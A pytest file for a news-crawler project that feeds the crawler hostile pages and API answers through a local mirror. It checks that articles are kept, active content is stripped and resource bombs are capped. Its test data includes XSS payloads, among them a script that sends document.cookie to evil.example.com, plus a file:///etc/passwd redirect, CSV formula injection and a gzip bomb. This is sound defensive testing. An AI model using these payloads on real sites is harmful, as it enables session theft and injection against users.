"""Hostile input: pages and answers a broken generator or a compromised source could serve.
Each case is crawled through the mirror in one run and asserts its counted outcome; every
good article is kept, nothing a browser would run is stored, and no traceback is logged."""

from __future__ import annotations

import csv
import json
import random
import re
import resource
from html import escape as html_escape
from pathlib import Path
from typing import Callable

import pytest

from newscrawl.archive import ArchiveReader
from newscrawl.crawling.quality import FIRST_SEEN, LAST_SEEN
from newscrawl.export.writers import csv_cell
from newscrawl.mirror.generator import GeneratedSite, GenArticle
from newscrawl.mirror.http import MirrorResponse
from newscrawl.mirror.runner import crawl_through_mirror
from newscrawl.parsing.post import parse_post, source_lines
from tests.conftest import run_scrapy

SOURCE_BOMB = "（文章来源：" * 60_000  # 1 MB of openings and no closing


def _in_content(extra: str) -> Callable[[str], str]:
    """The post's content gets `extra` after its title, and so does og:description in <head>
    (the layout copies the content there raw)."""
    def change(page: str, _: GenArticle) -> str:
        page = page.replace("</head>", f"{extra}</head>", 1)
        title_end = page.index("</h1>", page.index("<small>(GMT+8")) + len("</h1>")
        return page[:title_end] + extra + page[title_end:]

    return change


def _long_share(page: str, article: GenArticle) -> str:
    long = f"http://finews.zning.xyz/html_News/NewsShare.html?infoCode=NW{article.id}{'9' * 3000}"
    return page.replace(article.share_url, long)


def _bad_date(page: str, _: GenArticle) -> str:
    page = re.sub(r'(article:published_time" content=")[^"]+', r"\g<1>2022-13-45T10:00:00+08:00", page)
    page = re.sub(r'("datePublished": ?")[^"]+', r"\g<1>2022-13-45T10:00:00+08:00", page)
    return re.sub(r"(\(GMT\+8, Asia/Shanghai, CST\) )\d{4}-\d\d-\d\d", r"\g<1>2022-13-45", page)


def _epoch_date(page: str, _: GenArticle) -> str:
    page = re.sub(r'(article:published_time" content=")[^"]+', r"\g<1>1970-01-01T08:00:00+08:00", page)
    page = re.sub(r'("datePublished": ?")[^"]+', r"\g<1>1970-01-01T08:00:00+08:00", page)
    return re.sub(r"(\(GMT\+8, Asia/Shanghai, CST\) )\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", r"\g<1>1970-01-01 08:00:00", page)


WORDS = "%20".join(f"w{n}" for n in range(5000))


def _slug_of_5000_words(page: str, _: GenArticle) -> str:
    return re.sub(r'href="[^"]*"(>返回[^<]*新闻)', rf'href="//finews.withounder.com/category/{WORDS}.html"\1', page)


def _deep(page: str, _: GenArticle) -> str:
    """The post's content inside 10,000 nested <div>s (libxml2 stops at 256)."""
    start = page.index("</h1>", page.index("<small>(GMT+8")) + len("</h1>")
    end = page.index("<small>tags:", start)
    return page[:start] + "<div>" * 10_000 + page[start:end] + "</div>" * 10_000 + page[end:]


def _other_back_link(page: str, _: GenArticle) -> str:
    return re.sub(r'href="[^"]*"(>返回[^<]*新闻)', r'href="//finews.withounder.com/category/qitaxinwen.html"\1', page)


def _offsite_canonical(page: str, _: GenArticle) -> str:
    return page.replace("<head>", '<head><link rel="canonical" href="javascript:alert(1)">'
                                  '<link rel="canonical" href="https://evil.example.com/x.html">', 1)


def _no_share_link(page: str, article: GenArticle) -> str:
    """The real `<>` the generator wrote when it had no link: kramdown shows it as text."""
    return page.replace(f'<p><a href="{article.share_url}">{article.share_url}</a></p>', "<p>&lt;&gt;</p>")


def _other_post_canonical(page: str, _: GenArticle) -> str:
    # On the site, but another post's page: believing it would take that post's URL.
    return page.replace("<head>", '<head><link rel="canonical" '
                                  'href="https://finews.withounder.com/emnews/2022/05/26/202205262200000001.html">', 1)


def _in_head(extra: str) -> Callable[[str, GenArticle], str]:
    return lambda page, _: page.replace("<head>", f"<head>{extra}", 1)


def _unclosed_comment(page: str, article: GenArticle) -> str:
    return _in_content("<!-- ")(page, article)


def _huge_text(page: str, article: GenArticle) -> str:
    return _in_content(f"<p>{'长文' * 1_000_000}</p>")(page, article)


def _many_paragraphs(page: str, article: GenArticle) -> str:
    return _in_content("<p>段落</p>" * 50_000)(page, article)


def _long_title(page: str, article: GenArticle) -> str:
    return page.replace(f">{html_escape(article.title)}</h1>", f">{'长' * 10_000}</h1>", 1)


# case -> what it does to the post page
PAGE_CASES: dict[str, Callable[[str, GenArticle], str]] = {
    "no_share_link": _no_share_link,
    "other_post_canonical": _other_post_canonical,
    "evil_base_href": _in_head('<base href="https://evil.example.com/">'),
    "offsite_og_url": _in_head('<meta property="og:url" content="https://evil.example.com/x.html">'),
    "script_in_content": _in_content("<script>document.location='https://evil.example.com/?'+document.cookie</script>"),
    "handlers_in_content": _in_content('<p onclick="steal()" onmouseover="steal()">点我<img src="x" onerror="steal()"></p>'),
    "javascript_link": _in_content('<p><a href="javascript:steal()">链接文字</a></p>'),
    "iframe_in_content": _in_content('<iframe src="https://evil.example.com/"></iframe>'),
    "style_in_content": _in_content("<style>p{display:none}</style>"),
    "svg_onload": _in_content('<svg onload="steal()"><circle r="1"/></svg>'),
    "data_uri_link": _in_content('<p><a href="data:text/html;base64,PHNjcmlwdD4=">数据</a></p>'),
    "unclosed_comment": _unclosed_comment,
    "unclosed_textarea": _in_content("<textarea>"),
    "unclosed_form": _in_content('<form action="https://evil.example.com/">'),
    "math_element": _in_content("<math><mi>x</mi></math>"),
    "null_bytes": _in_content("<p>\x00\x01\x02</p>"),
    "huge_text_node": _huge_text,
    "many_paragraphs": _many_paragraphs,
    "long_title": _long_title,
    "meta_refresh": _in_content('<meta http-equiv="refresh" content="0;url=https://finews.withounder.com/gone.html">'),
    "long_share_link": _long_share,
    "source_bomb": _in_content(f"<p>{SOURCE_BOMB}</p>"),
    "impossible_date": _bad_date,
    "offsite_canonical": _offsite_canonical,
    "epoch_page_date": _epoch_date,
    "slug_of_5000_words": _slug_of_5000_words,
    "nested_10000_deep": _deep,
    "other_back_link": _other_back_link,
}
# case -> the share host's answer instead of the real one
SHARE_ANSWERS: dict[str, Callable[[MirrorResponse], MirrorResponse]] = {
    "share_json_depth_bomb": lambda _: MirrorResponse(200, b"[" * 200_000, "application/json"),
    "share_html_error_page": lambda _: MirrorResponse.html("<html><body>系统繁忙</body></html>"),
    "share_truncated_json": lambda a: MirrorResponse(200, a.body[: len(a.body) // 2], "application/json"),
    "share_empty_body": lambda _: MirrorResponse(200, b"", "application/json"),
    "share_empty_text": lambda a: MirrorResponse.json({**json.loads(a.body), "text": ""}),
    "share_wrong_types": lambda a: MirrorResponse.json({**json.loads(a.body), "text": {"p": 1}, "medianame": [1]}),
    "share_500": lambda _: MirrorResponse(500, b"oops"),
    "share_404": lambda _: MirrorResponse(404, b"not found"),
    "share_redirect_offsite": lambda _: MirrorResponse(302, b"", headers={"Location": "https://evil.example.com/x"}),
    "share_garbage_showtime": lambda a: MirrorResponse.json({**json.loads(a.body), "showtime": "昨天 下午"}),
    "share_gbk_no_charset": lambda a: MirrorResponse(200, a.body.decode("utf-8").encode("gbk", "replace"),
                                                     "text/plain"),
    "share_150000_nested": lambda a: MirrorResponse.json(
        {**json.loads(a.body), "text": "<blockquote>" * 150_000 + "深层正文" + "</blockquote>" * 150_000}),
}
SHARE_CASES = ("scripted_share", "share_year_9999", *SHARE_ANSWERS)
# case -> the post page's answer instead of the real one (pages no crawler can read)
PAGE_ANSWERS: dict[str, Callable[[str], MirrorResponse]] = {
    "post_not_html": lambda _: MirrorResponse(200, b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "image/png"),
    "post_empty_200": lambda _: MirrorResponse(200, b""),
    "post_500": lambda _: MirrorResponse(500, b"oops"),
    "post_redirect_offsite": lambda _: MirrorResponse(301, b"", headers={"Location": "https://evil.example.com/x.html"}),
    "post_redirect_file": lambda _: MirrorResponse(301, b"", headers={"Location": "file:///etc/passwd"}),
}
LOST_CASES = ("redirect_loop", *PAGE_ANSWERS)
# Answered well after a pause or a 429: archived whole.
SLOW_CASES = ("post_429_retry_after", "post_slow_answer")
SCRIPTED_SHARE = ('<script>alert(1)</script><p onclick="steal()">正文<img src="x" onerror="alert(1)">'
                  '<a href="javascript:alert(1)">链接</a><iframe src="https://evil.example.com"></iframe></p>')


class HostileSite:
    """A generated site with chosen post pages and share answers turned hostile."""

    def __init__(self, site: GeneratedSite) -> None:
        self.site = site
        plain = [a for a in site.articles if not (a.planted or a.alias_of or a.share_case or a.gbk) and a.shape in "AB"]
        names = [*PAGE_CASES, *SHARE_CASES, *LOST_CASES, *SLOW_CASES]
        self.cases: dict[str, GenArticle] = dict(zip(names, random.Random(5).sample(plain, len(names)), strict=True))
        self._pages = {a.path: (PAGE_CASES[case], a) for case, a in self.cases.items() if case in PAGE_CASES}
        self._answers = {a.path: PAGE_ANSWERS[case] for case, a in self.cases.items() if case in PAGE_ANSWERS}
        self._shares = {a.share_id: SHARE_ANSWERS[case] for case, a in self.cases.items() if case in SHARE_ANSWERS}
        self._throttled = {self.cases["post_429_retry_after"].path}

    def site_page(self, path: str) -> MirrorResponse:
        if path == self.cases["redirect_loop"].path:
            return MirrorResponse(301, b"", headers={"Location": f"https://finews.withounder.com{path}"})
        if path in self._answers:
            return self._answers[path](path)
        if path in self._throttled:  # once: "come back in a second"
            self._throttled.discard(path)
            return MirrorResponse(429, b"slow down", headers={"Retry-After": "1"})
        answer = self.site.site_page(path)
        if path == self.cases["post_slow_answer"].path:
            answer.delay = 2.0
        if path not in self._pages:
            return answer
        change, article = self._pages[path]
        return MirrorResponse.html(change(answer.body.decode("utf-8"), article))

    def share_answer(self, share_id: str) -> MirrorResponse:
        answer = self.site.share_answer(share_id)
        if share_id in self._shares:
            return self._shares[share_id](answer)
        if share_id == self.cases["scripted_share"].share_id:
            data = json.loads(answer.body)
            data["text"] = SCRIPTED_SHARE + data["text"]
            return MirrorResponse.json(data)
        if share_id == self.cases["share_year_9999"].share_id:
            return MirrorResponse.json({**json.loads(answer.body), "showtime": "9999-12-31 23:59:59"})
        return answer


@pytest.fixture(scope="module")
def hostile_crawl(tmp_path_factory: pytest.TempPathFactory):
    from newscrawl.mirror.proxy import MirrorProxy

    site = GeneratedSite(articles=150, seed=21)
    hostile = HostileSite(site)
    proxy = MirrorProxy(hostile)
    proxy.start_in_thread()
    out = tmp_path_factory.mktemp("hostile")
    try:
        result = crawl_through_mirror(proxy.url, out)
        requested = [r.target for r in proxy.requests]
        hosts = {r.host for r in proxy.requests}
    finally:
        proxy.stop()
    # The largest child this test process waited for: the crawl, or smaller ones before it.
    result.peak_rss_mib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    result.hosts = hosts
    reader = ArchiveReader.open(out / "newscrawl.db")
    rows = {r["id"]: reader.get(r["id"]) for r in reader.articles.rows}
    reader.close()
    return site, hostile, result, rows, requested


def test_every_good_article_is_kept_and_no_traceback(hostile_crawl) -> None:
    site, hostile, result, rows, _ = hostile_crawl
    assert result.report["finish_reason"] == "finished", result.log[-3000:]
    assert "Traceback" not in result.log
    lost = {hostile.cases[c].id for c in LOST_CASES}
    assert {e["id"] for e in site.expected()} - lost <= set(rows)
    assert "newscrawl/finews/parser_error" not in result.stats


def test_a_redirect_loop_is_counted(hostile_crawl) -> None:
    site, hostile, result, rows, requested = hostile_crawl
    assert result.stats["newscrawl/redirect/loop"] == 1
    assert sum(t.endswith(hostile.cases["redirect_loop"].path) for t in requested) == 1
    assert result.log.count("Redirect loop, page not fetched") == 1


def test_a_slug_of_5000_words_asks_a_few_category_pages(hostile_crawl) -> None:
    site, hostile, result, rows, requested = hostile_crawl
    assert rows[hostile.cases["slug_of_5000_words"].id]["title"] == hostile.cases["slug_of_5000_words"].title
    assert result.stats["newscrawl/finews/category_words_capped"] == 1
    assert sum(bool(re.match(r"/category/w\d", t)) for t in requested) <= 5
    assert result.log.count("Category of 5000 words") == 1


def test_a_post_nested_10000_deep_keeps_its_body_and_share_link(hostile_crawl) -> None:
    site, hostile, result, rows, _ = hostile_crawl
    article = hostile.cases["nested_10000_deep"]
    row = rows[article.id]
    expected = next(e for e in site.expected() if e["id"] == article.id)
    assert row["body_text"] == expected["body_text"] and row["share_url"] == article.share_url
    assert "<div>" * 200 not in row["body_html"]


def test_sanitizing_deep_nesting_is_linear_and_keeps_the_text() -> None:
    from newscrawl.parsing.text import MAX_DEPTH, flatten_deep
    from newscrawl.processing.cleaning import clean_body

    # 150,000 nested blockquotes took nh3 88 s; unwrapped past MAX_DEPTH they take well under one.
    html, text = clean_body("<blockquote>" * 150_000 + "正文" + "</blockquote>" * 150_000, "https://finews.withounder.com/x.html")
    assert text == "正文" and html.count("<blockquote>") <= MAX_DEPTH
    shallow = "<div><p>一</p><ul><li>二<li>三</ul></div>" * 50
    assert flatten_deep(shallow) == shallow  # real bodies are left as they are
    assert flatten_deep("<div>" * 300 + "字" + "</div>" * 300, 10) == "<div>" * 5 + "字" + "</div>" * 5
    inside = '<p><a href="http://finance.eastmoney.com/a/1.html">链接</a></p>'
    assert flatten_deep("<div>" * 300 + inside + "</div>" * 300, 10) == "<div>" * 5 + inside + "</div>" * 5


def test_a_back_link_to_another_category_does_not_hide_the_post_s_own(hostile_crawl) -> None:
    site, hostile, result, rows, requested = hostile_crawl
    article = hostile.cases["other_back_link"]
    own = article.path.strip("/").split("/")[0]
    assert rows[article.id]["category"] == "qitaxinwen"
    assert f"/category/qitaxinwen.html" in requested and f"/category/{own}.html" in requested


def test_a_meta_refresh_in_a_post_does_not_take_it_away(hostile_crawl) -> None:
    site, hostile, result, rows, requested = hostile_crawl
    article = hostile.cases["meta_refresh"]
    assert rows[article.id]["title"] == article.title
    assert not any("gone.html" in target for target in requested)


def test_a_share_link_too_long_to_request_keeps_its_article(hostile_crawl) -> None:
    site, hostile, result, rows, _ = hostile_crawl
    article = hostile.cases["long_share_link"]
    assert rows[article.id]["title"] == article.title and rows[article.id]["source_body_text"] is None
    assert result.stats["newscrawl/share/url_too_long"] == 1


def test_a_post_of_source_openings_is_archived_whole(hostile_crawl) -> None:
    site, hostile, result, rows, _ = hostile_crawl
    article = hostile.cases["source_bomb"]
    row = rows[article.id]
    assert row["source"] == article.source and SOURCE_BOMB[:600] in row["body_text"]


def test_an_impossible_date_is_no_date_not_a_parser_error(hostile_crawl) -> None:
    site, hostile, result, rows, _ = hostile_crawl
    article = hostile.cases["impossible_date"]
    # The share host still knows the true time: the article keeps it.
    assert rows[article.id]["site_published_at"] is None
    assert rows[article.id]["published_at"] == article.published.isoformat()


def test_impossible_times_are_taken_out_and_a_plausible_one_kept(hostile_crawl) -> None:
    site, hostile, result, rows, _ = hostile_crawl
    epoch, future = (hostile.cases[c] for c in ("epoch_page_date", "share_year_9999"))
    # 1970 on the page: the share host's time is the publication time, the page's is gone.
    assert rows[epoch.id]["site_published_at"] is None and rows[epoch.id]["published_at"] == epoch.published.isoformat()
    # 9999 from the share host: taken out; the page's time (8 hours late, or not) is judged by
    # the post's neighbours, whose times the share host gave.
    assert rows[future.id]["source_published_at"] is None
    assert rows[future.id]["site_published_at"] == future.shown.isoformat()
    assert rows[future.id]["published_at"] == future.published.isoformat()
    assert rows[future.id]["provenance"]["published_at"] == "inferred"
    assert result.stats["newscrawl/validate/implausible_date/site_published_at"] == 1
    assert result.stats["newscrawl/share/implausible_date"] == 1
    # Neither widened the run's window of publication times.
    assert result.stats[FIRST_SEEN] >= "2022" and result.stats[LAST_SEEN] < "2023"


def test_a_canonical_link_off_the_site_is_not_the_article_s_url(hostile_crawl) -> None:
    site, hostile, result, rows, _ = hostile_crawl
    article = hostile.cases["offsite_canonical"]
    assert rows[article.id]["url"] == f"https://finews.withounder.com{article.path}"


def test_a_share_answer_s_scripts_are_neither_stored_nor_served(hostile_crawl, tmp_path: Path) -> None:
    site, hostile, result, rows, _ = hostile_crawl
    row = rows[hostile.cases["scripted_share"].id]
    assert "正文" in row["source_body_html"] and "链接" in row["source_body_text"]
    for bad in ("<script", "onerror", "onclick", "javascript:", "<iframe"):
        assert bad not in row["source_body_html"].lower(), bad


def test_source_lines_are_the_closed_lines_without_an_opening_inside() -> None:
    pattern = re.compile(r"（文章来源：((?:(?!（文章来源：)[^）])*)）")
    rng = random.Random(3)
    pieces = ["（文章来源：", "）", "新华社", "\n", "（", "x"]
    for _ in range(2000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(12)))
        assert source_lines(text) == pattern.findall(text), text
    assert source_lines(SOURCE_BOMB) == [] and source_lines(SOURCE_BOMB + "新华社）") == ["新华社"]
    assert source_lines("（文章来源：新华社（北京））") == ["新华社（北京"]  # as the site's generator cut it


def test_an_impossible_shown_date_parses_as_none() -> None:
    page = ('<html><head></head><body><section><small>(GMT+8, Asia/Shanghai, CST) 2022-13-45 10:00:00</small>'
            '<h1>标题</h1><p>正文</p></section></body></html>')
    fields = parse_post(page, "https://finews.withounder.com/emnews/2022/01/01/202201012200000001.html")
    assert fields["site_published_at"] is None and fields["title"] == "标题"


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://evil\",\"x\")", "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralized(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert csv_cell("北向资金") == "北向资金" and csv_cell(None) is None and csv_cell(3) == 3


def test_an_export_s_csv_runs_no_formula(hostile_crawl, tmp_path: Path) -> None:
    from newscrawl.archive import Archive
    from newscrawl.items import Article, item_fields
    from newscrawl.pipelines.clean import CleanArticlePipeline

    db = tmp_path / "a.db"
    archive = Archive(db)
    item = CleanArticlePipeline().process_item(Article(
        id="202201012200000001", url="https://finews.withounder.com/emnews/2022/01/01/202201012200000001.html",
        title='=HYPERLINK("http://evil.example.com","点我")', body_html="<p>正文</p>",
        published_at="2022-01-01T10:00:00+08:00", fetched_at="2022-01-01T10:00:00+08:00"))
    archive.save(item_fields(item), None)
    archive.close()
    out = tmp_path / "out"
    done = run_scrapy("export", "--db", str(db), "--out", str(out), "--format", "csv")
    assert done.returncode == 0, done.stderr[-2000:]
    rows = [r for p in sorted(out.glob("articles*.csv")) for r in csv.DictReader(p.open(encoding="utf-8"))]
    assert [r["title"] for r in rows] == ["'=HYPERLINK(\"http://evil.example.com\",\"点我\")"]


def test_an_older_archive_s_stored_share_html_is_sanitized_when_opened(tmp_path: Path) -> None:
    import sqlite3

    from newscrawl.archive import Archive
    from newscrawl.archive.schema import VERSION

    db = tmp_path / "a.db"
    Archive(db).close()
    conn = sqlite3.connect(db)
    conn.execute("insert into articles (id, url, title, share_url, source_body_html) values (?, ?, ?, ?, ?)",
                 ["202201012200000001", "https://finews.withounder.com/x.html", "标题",
                  "http://finews.zning.xyz/html_News/NewsShare.html?infoCode=NW202201012200000001", SCRIPTED_SHARE])
    conn.execute("insert into articles (id, url, title, published_at, site_published_at, source_published_at, "
                 "provenance) values (?, ?, ?, ?, ?, ?, ?)",
                 ["202201012200000002", "https://finews.withounder.com/y.html", "标题二", "9999-12-31T23:59:59+08:00",
                  "2022-01-01T18:00:00+08:00", "9999-12-31T23:59:59+08:00", '{"published_at": "share"}'])
    conn.execute("pragma user_version = 5")
    conn.commit()
    conn.close()
    archive = Archive(db)
    stored = archive.get("202201012200000001")["source_body_html"]
    future = archive.get("202201012200000002")
    archive.close()
    # An impossible time archived before is taken out; the page's is the publication time.
    assert (future["published_at"], future["source_published_at"], future["provenance"]["published_at"]) == (
        "2022-01-01T18:00:00+08:00", None, "post")
    assert "正文" in stored and "链接" in stored and VERSION >= 6
    for bad in ("<script", "onerror", "onclick", "javascript:", "<iframe"):
        assert bad not in stored.lower(), bad


class _Forbidden:
    """A site whose robots.txt forbids everything."""

    def __init__(self, site: GeneratedSite) -> None:
        self.site = site

    def site_page(self, path: str) -> MirrorResponse:
        if path == "/robots.txt":
            return MirrorResponse(200, b"User-agent: *\nDisallow: /\n", "text/plain")
        return self.site.site_page(path)

    def share_answer(self, share_id: str) -> MirrorResponse:
        return self.site.share_answer(share_id)


def test_a_run_robots_txt_forbids_fails_its_gates(serve, small_site: GeneratedSite, tmp_path: Path) -> None:
    proxy = serve(_Forbidden(small_site))
    result = crawl_through_mirror(proxy.url, tmp_path)
    assert result.returncode == 3, result.log[-2000:]
    assert re.search(r"QUALITY GATE FAILED: robots.txt forbade every request \(\d+\): nothing was crawled", result.log)
    assert not [r for r in proxy.requests if r.target.rstrip("/").endswith(".html")]


class _LongFeed:
    """A site whose feed lists 300 posts whose pages are all missing: without a cap, each would
    be archived from the feed's copy."""

    def __init__(self, site: GeneratedSite) -> None:
        self.site = site
        feed = site.site_page("/feed.xml").body.decode("utf-8")
        start, end = feed.index("<entry"), feed.index("</entry>") + len("</entry>")
        first = site.articles[0].id
        self.missing = {f"20220526229{n:07d}" for n in range(300)}
        entries = "".join(feed[start:end].replace(first, fake) for fake in sorted(self.missing))
        self.feed = feed[:start] + entries + feed[feed.rindex("</entry>") + len("</entry>"):]

    def site_page(self, path: str) -> MirrorResponse:
        if path == "/feed.xml":
            return MirrorResponse(200, self.feed.encode("utf-8"), "application/xml")
        if path.rsplit("/", 1)[-1].removesuffix(".html") in self.missing:
            return MirrorResponse.html("not found", 404)
        return self.site.site_page(path)

    def share_answer(self, share_id: str) -> MirrorResponse:
        return self.site.share_answer(share_id)


def test_a_feed_far_longer_than_the_site_s_is_followed_only_so_far(serve, tmp_path: Path) -> None:
    site = GeneratedSite(articles=20, seed=4)
    proxy = serve(_LongFeed(site))
    result = crawl_through_mirror(proxy.url, tmp_path, settings={"NEWSCRAWL_FOLLOW_SHARE": "False"})
    assert result.stats["newscrawl/finews/feed_capped"] == 1
    assert result.log.count("Feed of 300 entries, only the first 200 followed") == 1
    feed_posts = [r for r in proxy.requests if "/20220526229" in r.target]
    assert len(feed_posts) <= 200 and result.stats.get("newscrawl/finews/from_feed", 0) <= 200


def test_a_crawl_into_a_damaged_archive_is_refused(serve, small_site: GeneratedSite, tmp_path: Path) -> None:
    import sqlite3

    from tests.conftest import build_archive, file_state

    db = build_archive(tmp_path / "newscrawl.db", articles=40)
    conn = sqlite3.connect(db)
    conn.execute("pragma wal_checkpoint(truncate)")
    page_size = conn.execute("pragma page_size").fetchone()[0]
    root = conn.execute("select rootpage from sqlite_master where type = 'index' and tbl_name = 'articles'").fetchone()[0]
    conn.close()
    with db.open("r+b") as file:  # a disk's bad sector in the id index
        file.seek((root - 1) * page_size + 8)
        file.write(b"\xff" * 64)
    before = file_state(db)
    result = crawl_through_mirror(serve(small_site).url, tmp_path)
    # Refused before anything is crawled or written: one line, exit code 1 (did not run).
    assert result.returncode == 1, result.log[-3000:]
    errors = [line for line in result.log.splitlines() if "failed its integrity check" in line]
    assert len(errors) == 1 and "On tree page" in errors[0] and ".recover" in errors[0] and "Traceback" not in result.log
    assert file_state(db) == before


def test_a_post_without_a_body_is_no_copy_of_another_with_its_title(tmp_path: Path) -> None:
    from newscrawl.archive import Archive
    from newscrawl.items import Article
    from newscrawl.pipelines.clean import CleanArticlePipeline
    from newscrawl.pipelines.dedup import DedupArticlePipeline
    from newscrawl.pipelines.store import StoreArticlePipeline

    class Stats(dict):
        def inc_value(self, key: str, count: int = 1) -> None:
            self[key] = self.get(key, 0) + count

    archive, stats = Archive(tmp_path / "a.db"), Stats()
    steps = (CleanArticlePipeline(), DedupArticlePipeline(archive, stats), StoreArticlePipeline(archive, stats))
    first = Article(id="202201012200000001", url="https://finews.withounder.com/emnews/2022/01/01/202201012200000001.html",
                    title="北向资金净流入", body_html=None,  # both bodies lost (a page libxml2 could not read)
                    published_at="2022-01-01T10:00:00+08:00", fetched_at="2022-01-01T10:00:00+08:00")
    empty = Article(id="202201022200000002", url="https://finews.withounder.com/emnews/2022/01/02/202201022200000002.html",
                    title="北向资金净流入", body_html=None,
                    published_at="2022-01-02T10:00:00+08:00", fetched_at="2022-01-02T10:00:00+08:00")
    for item in (first, empty):
        for step in steps:
            item = step.process_item(item)
    archive.commit()
    row = archive.get("202201022200000002")
    archive.close()
    assert row["duplicate_of"] is None and row["cluster_id"] == "202201022200000002"


def test_a_page_that_drips_is_asked_twice_not_six_times(serve, tmp_path: Path) -> None:
    from tests.conftest import SlowSite

    site = GeneratedSite(articles=12, seed=8)
    slow = SlowSite(site, delay=3.0)  # every post page: nothing for 3 s, past a 1 s timeout
    proxy = serve(slow)
    result = crawl_through_mirror(proxy.url, tmp_path, settings={"DOWNLOAD_TIMEOUT": "1", "NEWSCRAWL_FOLLOW_SHARE": "False"})
    posts = [r.target for r in proxy.requests if r.target.endswith(".html") and "/category/" not in r.target]
    pages = set(posts)
    assert pages and all(posts.count(p) == 2 for p in pages), posts
    assert result.stats["newscrawl/retry/timeout_not_retried"] == len(pages)
    assert "Traceback" not in result.log


class _GzipBomb:
    """The generated site with one post page answered as a gzip body that expands to 64 MiB."""

    def __init__(self, site: GeneratedSite, path: str) -> None:
        import gzip

        self.site, self.path = site, path
        self.bomb = gzip.compress(b"<p>" + b"0" * (64 * 1024 * 1024) + b"</p>", compresslevel=9)

    def site_page(self, path: str) -> MirrorResponse:
        if path == self.path:
            return MirrorResponse(200, self.bomb, headers={"Content-Encoding": "gzip"})
        return self.site.site_page(path)

    def share_answer(self, share_id: str) -> MirrorResponse:
        return self.site.share_answer(share_id)


def test_a_gzip_bomb_stops_at_the_size_limit(serve, tmp_path: Path) -> None:
    site = GeneratedSite(articles=12, seed=8)
    victim = next(a for a in site.articles if not (a.planted or a.alias_of))
    bomb = _GzipBomb(site, victim.path)
    assert len(bomb.bomb) < 100_000
    result = crawl_through_mirror(serve(bomb).url, tmp_path, settings={"NEWSCRAWL_FOLLOW_SHARE": "False"})
    assert result.report["finish_reason"] == "finished" and "Traceback" not in result.log
    # Scrapy's decompression stops at the limit, not at 64 MiB; the post comes from the feed's copy.
    assert "exceeded DOWNLOAD_MAXSIZE (33554432 B) during decompression" in result.log
    assert result.stats["newscrawl/finews/fetch_error/IgnoreRequest"] == 1
    assert result.stats["newscrawl/finews/from_feed"] == 1


def test_a_body_of_one_huge_text_node_is_read_whole() -> None:
    from newscrawl.processing.cleaning import clean_body

    text = "字" * 4_000_000  # 12 MB in one text node: libxml2 drops a text node over 10 MB by default
    page = ('<html><head></head><body><section><small>(GMT+8, Asia/Shanghai, CST) 2022-01-01 10:00:00</small>'
            f'<h1>标题</h1><p>{text}</p></section></body></html>')
    fields = parse_post(page, "https://finews.withounder.com/emnews/2022/01/01/202201012200000001.html")
    assert fields["body_text"] == text
    assert clean_body(fields["body_html"], fields["url"])[1] == text


@pytest.mark.parametrize("tag", ["object", "embed", "form", "noscript", "template", "textarea", "select", "math"])
def test_text_after_an_unclosed_element_is_kept(tag: str) -> None:
    from newscrawl.processing.cleaning import clean_body

    body = f"<p>前文<{tag} data=\"x\">后文</p><p>第二段</p>"
    page = ('<html><head></head><body><section><small>(GMT+8, Asia/Shanghai, CST) 2022-01-01 10:00:00</small>'
            f'<h1>标题</h1>{body}<small>tags: <em>东财滚动新闻</em></small></section></body></html>')
    fields = parse_post(page, "https://finews.withounder.com/emnews/2022/01/01/202201012200000001.html")
    assert fields["body_text"] == "前文后文\n第二段"
    assert clean_body(body, fields["url"]) == ("<p>前文后文</p>\n<p>第二段</p>", "前文后文\n第二段")


def test_what_a_closed_fallback_element_holds_is_no_article_text() -> None:
    from newscrawl.processing.cleaning import clean_body

    html, text = clean_body("<p>前文<noscript>请开启JavaScript</noscript>后文</p><p>二<object>插件</object></p>", "")
    assert text == "前文后文\n二" and "JavaScript" not in html


# --- the corpus, case by case: each asserts its counted outcome ------------------------------
def _row(hostile_crawl, case: str) -> tuple[GenArticle, dict, dict]:
    site, hostile, result, rows, _ = hostile_crawl
    article = hostile.cases[case]
    assert article.id in rows, f"{case}: the article was lost"
    expected = next(e for e in site.expected() if e["id"] == article.id)
    return article, rows[article.id], expected


def test_the_corpus_has_40_cases_crawled_in_one_run(hostile_crawl) -> None:
    site, hostile, result, rows, _ = hostile_crawl
    assert len(hostile.cases) >= 40
    assert result.report["finish_reason"] == "finished" and "Traceback" not in result.log
    # Nothing was asked of another host than the site's and the share hosts'.
    assert result.hosts <= {"finews.withounder.com", "finews.zning.xyz", "choicewzp1.eastmoney.com",
                            *{h for h in result.hosts if h.endswith(".eastmoney.com")}}
    assert result.peak_rss_mib < 600, result.peak_rss_mib


ACTIVE = {  # case -> what must not be in the stored body HTML (nor its text)
    "script_in_content": ("<script", "document.cookie"),
    "handlers_in_content": ("onclick", "onmouseover", "onerror"),
    "javascript_link": ("javascript:",),
    "iframe_in_content": ("<iframe", "evil.example.com"),
    "style_in_content": ("<style", "display:none"),
    "svg_onload": ("<svg", "onload"),
    "data_uri_link": ("data:",),
    "unclosed_form": ("<form", "evil.example.com"),
}


@pytest.mark.parametrize("case", sorted(ACTIVE))
def test_content_a_browser_would_run_is_not_stored_and_the_text_is_kept(hostile_crawl, case: str) -> None:
    article, row, expected = _row(hostile_crawl, case)
    for bad in ACTIVE[case]:
        assert bad not in row["body_html"] and bad not in row["body_text"], (case, bad)
    assert expected["body_text"] in row["body_text"] and row["title"] == article.title
    kept = {"handlers_in_content": "点我", "javascript_link": "链接文字", "data_uri_link": "数据"}
    if case in kept:
        assert kept[case] in row["body_text"]


@pytest.mark.parametrize("case", ["unclosed_comment", "unclosed_textarea", "math_element", "null_bytes",
                                  "evil_base_href", "offsite_og_url"])
def test_markup_that_would_hide_or_move_the_text_does_not(hostile_crawl, case: str) -> None:
    article, row, expected = _row(hostile_crawl, case)
    assert row["body_text"].endswith(expected["body_text"]) and row["title"] == article.title
    assert "\x00" not in row["body_text"] and row["url"] == expected["url"] and row["share_url"] == article.share_url


def test_a_huge_text_node_and_50000_paragraphs_are_read_whole(hostile_crawl) -> None:
    _, huge, _ = _row(hostile_crawl, "huge_text_node")
    assert huge["body_text"].count("长文") == 1_000_000
    _, many, expected = _row(hostile_crawl, "many_paragraphs")
    assert many["body_text"].count("段落") == 50_000 and expected["body_text"] in many["body_text"]


